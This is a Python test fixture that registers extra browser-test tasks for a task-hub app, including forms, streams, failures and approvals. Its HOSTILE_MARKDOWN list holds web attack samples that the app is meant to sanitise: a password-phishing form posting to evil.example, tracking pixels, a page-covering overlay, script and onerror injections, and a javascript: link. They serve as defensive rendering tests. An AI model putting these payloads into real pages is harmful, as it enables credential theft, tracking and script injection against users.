"""Tasks that the demos do not cover, for the browser tests: several questions open at
once, one of them expiring, and a task state of its own; a steady stream of numbered
lines that outlives a hub restart; an order form with lists and nested models, asked
blank and pre-filled; tasks that name a view (one the app has, one it does not); a task
that fails and one that cancels itself; one whose markdown tries every trick the app
must not render; an approval assigned to someone with a deadline."""

from __future__ import annotations

import enum
from typing import Any

from pydantic import BaseModel, EmailStr, Field

from tether import Context, Hub
from tether.demos import build_demo_hub

COLOR_FIELDS = [
    {
        "name": "color",
        "description": "Favourite colour",
        "type": "string",
        "required": True,
        "enum": ["red", "green", "blue"],
    },
    {"name": "tags", "description": "Tags", "type": "string_list", "required": False},
]


class TwoQuestionsInputs(BaseModel):
    expires_in: float = Field(600, gt=0, description="Seconds the first question stays open")


class TimedApprovalInputs(BaseModel):
    approver: str = Field("user:bob", description="Who approves it")
    expires_in: float = Field(1800, gt=0, description="Seconds the approval stays open")


class FailingInputs(BaseModel):
    key: str = Field("colour", description="The key that is not there")


class SteadyInputs(BaseModel):
    lines: int = Field(150, ge=1, le=10_000, description="How many lines to stream")
    every: float = Field(0.03, ge=0, le=5, description="Seconds between two lines")


class Priority(enum.StrEnum):
    low = "low"
    high = "high"


class OrderLine(BaseModel):
    # The pattern is checked by the hub only: its error must reach the row's field.
    sku: str = Field(pattern=r"^[A-Z]{3}-\d+$", description="Article code")
    qty: int = Field(gt=0, description="How many")


class Address(BaseModel):
    street: str = Field(description="Street")
    city: str = Field(description="City")


class Order(BaseModel):
    priority: Priority = Field(description="Priority")  # required, no default
    quantities: list[int] = Field(min_length=1, description="Quantities")
    lines: list[OrderLine] = Field(default_factory=list, description="Order lines")
    ship_to: Address = Field(description="Ship to")


class OrderInputs(BaseModel):
    contact: EmailStr = Field("ops@example.com", description="Who hears about the order")


PREFILLED_ORDER: dict[str, Any] = {
    "priority": "high",
    "quantities": [2, 7],
    "lines": [{"sku": "TEA-1", "qty": 2}],
    "ship_to": {"street": "Main St 1", "city": "Oslo"},
}


def steady_line(index: int, total: int) -> str:
    """The text of line ``index`` (1-based) of ``steady``: numbered, so a lost or doubled
    line shows."""
    return f"line {index:05d} of {total:05d}"


def look_up(table: dict[str, str], key: str) -> str:
    """A frame of the failing task's traceback, by name."""
    return table[key]


# A markdown sample per trick: styles, forms, remote images, full-page overlays, script.
HOSTILE_MARKDOWN = [
    "<style>body { display: none !important }</style>**styled away**",
    '<form action="https://evil.example/steal" method="post">Password <input '
    'type="password" name="p"><button>Log in</button></form>',
    '![tracker](http://evil.example/pixel.gif) <img src="https://evil.example/p.png" alt="p">',
    '<div style="position:fixed;inset:0;z-index:99999;background:red">Session expired</div>',
    "<script>window.hacked = 1</script><img src=/x onerror=\"window.hacked = 2\">script",
    "[click me](javascript:window.hacked=3)",
]


def register_timed_approval(hub: Hub) -> None:
    """``timed_approval``: one confirmation assigned to ``approver``, open for
    ``expires_in`` seconds (the Inbox shows its deadline)."""

    @hub.task(title="Timed approval", description="Waits for an approver, until a deadline.")
    async def timed_approval(ctx: Context, inputs: TimedApprovalInputs) -> bool:
        return await ctx.confirm(
            f"Sign off within {inputs.expires_in:.0f} s?",
            assignees=[inputs.approver],
            timeout=inputs.expires_in,
            default=False,
        )


def build_browser_hub() -> Hub:
    """The demo tasks plus ``two_questions``, ``steady``, ``order_form``,
    ``prefilled_order``, ``reply_drafts`` (the email assistant's view), ``gantt_chart`` (a
    view the app does not have), ``failing``, ``self_cancelling``, ``hostile_markdown``
    and ``timed_approval``."""
    hub = build_demo_hub()
    register_timed_approval(hub)

    @hub.task(title="Reply drafts", view="email_assistant")
    async def reply_drafts(ctx: Context) -> str:
        draft = "Dear Ana,\nFriday works.\nBest"
        await ctx.set_state(
            questions=[], answers={}, drafts=[draft], feedback_history=[], final_draft=draft,
            next_step=None,
        )
        return draft

    @hub.task(title="Gantt chart", view="gantt")
    async def gantt_chart(ctx: Context) -> int:
        await ctx.set_state(bars=3)
        return 3

    @hub.task(title="Failing", description="Fails with a KeyError of its own.")
    async def failing(ctx: Context, inputs: FailingInputs) -> str:
        await ctx.stream("looking it up")
        return look_up({}, inputs.key)

    @hub.task(title="Self cancelling")
    async def self_cancelling(ctx: Context) -> None:
        await ctx.stream("checking the budget")
        ctx.cancel("out of budget")

    @hub.task(title="Two questions", description="Asks two things at once; one expires.")
    async def two_questions(ctx: Context, inputs: TwoQuestionsInputs) -> list[Any]:
        async def ask(item_ctx: Context, index: int) -> Any:
            if index == 0:
                return await item_ctx.confirm(
                    "Keep going?",
                    details="Nobody minds.",
                    timeout=inputs.expires_in,
                    default=False,
                )
            return await item_ctx.ask(COLOR_FIELDS, prompt="Pick a colour")

        await ctx.set_state(phase="asking", open_questions=["Keep going?", "Pick a colour"])
        answers = await ctx.map(ask, [0, 1])
        await ctx.set_state(phase="done", open_questions=[])
        return answers

    @hub.task(title="Steady stream", description="Streams numbered lines at a steady pace.")
    async def steady(ctx: Context, inputs: SteadyInputs) -> dict[str, int]:
        for index in range(1, inputs.lines + 1):
            await ctx.stream(steady_line(index, inputs.lines))
            await ctx.sleep(inputs.every)  # journaled: a resumed run waits only what is left
        return {"lines": inputs.lines}

    @hub.task(title="Order form", description="Asks for an order: rows and a nested address.")
    async def order_form(ctx: Context, inputs: OrderInputs) -> dict[str, Any]:
        order = await ctx.ask(Order, prompt="Place the order")
        return {"contact": inputs.contact, **order.model_dump(mode="json")}

    @hub.task(title="Prefilled order", description="Asks to check an order it fills in.")
    async def prefilled_order(ctx: Context) -> dict[str, Any]:
        order = await ctx.ask(
            Order, prompt="Check the order", initial=PREFILLED_ORDER,
            details="The customer **called back**: check the quantities.",
        )
        return order.model_dump(mode="json")

    register_hostile_markdown(hub)
    return hub


def register_hostile_markdown(hub: Hub) -> None:
    @hub.task(title="Hostile markdown", description="Writes markdown that must not render.")
    async def hostile_markdown(ctx: Context) -> str:
        for sample in HOSTILE_MARKDOWN:
            await ctx.markdown(sample)
        ok = await ctx.confirm("Still readable?", details="\n\n".join(HOSTILE_MARKDOWN))
        return "read" if ok else "unread"
